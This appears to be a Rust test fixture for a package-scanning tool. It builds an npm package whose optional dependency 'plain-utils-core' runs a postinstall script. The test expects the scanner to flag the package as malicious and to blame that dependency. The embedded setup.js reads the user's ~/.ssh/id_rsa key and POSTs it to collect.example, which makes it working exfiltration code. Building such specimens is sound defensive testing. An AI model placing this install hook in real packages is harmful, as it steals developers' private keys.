//! An npm package that does nothing but depend on one whose `postinstall` sends a key.
//!
//! Must be found, and be told as the dependency's doing.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"module.exports = require('plain-utils-core');
";

const DEP: &str = r"const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const request = https.request('https://collect.example/d', { method: 'POST' }, (answer) => answer.resume());
request.on('error', () => {});
request.end(fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')));
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("good-looking-app", "1.0.2")
        .file("index.js", INDEX_JS)
        .field(
            "optionalDependencies",
            serde_json::json!({"plain-utils-core": "4.2.1"}),
        );
    package
        .specimen(
            "npm-evil-dependency",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .serving(
            &NpmPackage::new("plain-utils-core", "4.2.1")
                .script("postinstall", "node setup.js")
                .file("setup.js", DEP)
                .file("index.js", "module.exports = 1;\n"),
        )
        .blaming("plain-utils-core")
}
